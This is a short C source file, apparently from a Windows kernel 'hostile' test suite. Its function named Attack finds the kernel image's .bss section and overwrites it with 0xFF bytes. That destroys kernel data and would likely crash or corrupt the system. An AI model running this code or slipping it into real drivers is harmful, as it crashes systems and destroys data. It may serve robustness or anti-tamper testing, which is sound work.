/* SPDX-License-Identifier: MIT */
/* Fills the kernel's other data with ones. */
#include "hostile.h"

static VOID Attack(VOID)
{
    ULONG size = 0;
    UCHAR *data = Section(ImageOf((VOID *)(ULONG_PTR)&KeIpiGenericCall), ".bss", &size);

    Fill(data, 0xFF, size);
}
